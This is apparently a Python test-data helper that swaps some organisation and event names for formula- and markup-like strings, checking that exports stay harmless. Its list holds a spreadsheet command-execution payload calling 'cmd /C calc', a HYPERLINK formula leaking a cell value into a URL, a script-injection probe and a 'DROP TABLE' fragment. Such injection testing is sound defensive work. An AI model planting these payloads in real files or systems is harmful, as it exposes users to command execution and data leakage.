"""Free texts that look like formulas or markup: they must arrive as they are and leave every export harmless."""

from __future__ import annotations

import polars as pl

_TEXTS = (
    "=1+1",
    '=HYPERLINK("http://example.org/?x="&A1,"Отчёт")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<script>alert('РСНМС')</script>",
    "+7 (000) 000-00-00; DROP TABLE",
    "Школа «Рассвет» <b>№ 1</b> & Ко",
)
#: column with free text -> how many of its values become such texts
_COLUMNS = {"org_name": 6, "title": 4, "event_title": 4}


def replace_some(source: str, column: str, values: pl.Series) -> pl.Series:
    """The same values with some of them, chosen by their order and always alike, replaced."""
    every = values.unique().sort()
    step = max(len(every) // (_COLUMNS[column] + 1), 1)
    chosen = every.gather_every(step)[1 : _COLUMNS[column] + 1].to_list()
    return values.replace(chosen, _TEXTS[: len(chosen)])


def applies(source: str) -> list[str]:
    """Columns of the source that get such texts; titles that other sources refer to stay as they are."""
    return {"organizations": ["org_name"], "practices": ["title"], "support_events": ["event_title"]}.get(source, [])
